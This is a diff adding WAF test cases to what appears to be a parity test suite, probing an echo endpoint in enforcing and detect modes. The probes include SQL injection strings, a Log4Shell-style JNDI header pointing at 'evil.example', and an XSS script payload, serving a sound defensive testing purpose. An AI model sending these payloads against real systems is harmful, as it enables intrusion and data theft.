@@ -174,6 +174,35 @@ CASES += [
 ]
 
 
+CASES += [
+    ParityCase(
+        "waf-default",
+        "",  # the WAF is on by default, enforcing
+        (
+            Probe("GET", "/echo?id=42"),
+            Probe("GET", "/echo?id=1%27%20OR%20%271%27%3D%271"),
+            Probe("GET", "/echo", headers=(("x-api-version", "${jndi:ldap://evil.example/a}"),)),
+            Probe("POST", "/echo", headers=_JSON, body=b'{"text": "<script>alert(1)</script>"}'),
+            Probe("POST", "/echo", headers=_JSON, body=b'{"text": "Hello O\'Brien"}'),
+            Probe(
+                "POST",
+                "/echo",
+                headers=(("content-type", "application/x-www-form-urlencoded"),),
+                body=b"q=1%20UNION%20SELECT%20password%20FROM%20users",
+            ),
+        ),
+    ),
+    ParityCase(
+        "waf-detect",
+        "waf: {mode: detect}",
+        (
+            Probe("GET", "/echo?id=1%27%20OR%20%271%27%3D%271"),
+            Probe("TRACE", "/echo"),
+        ),
+    ),
+]
+
+
 async def _status(url: str, probe: Probe) -> tuple[int, str]:
     async with aiohttp.ClientSession() as session:
         async with session.request(
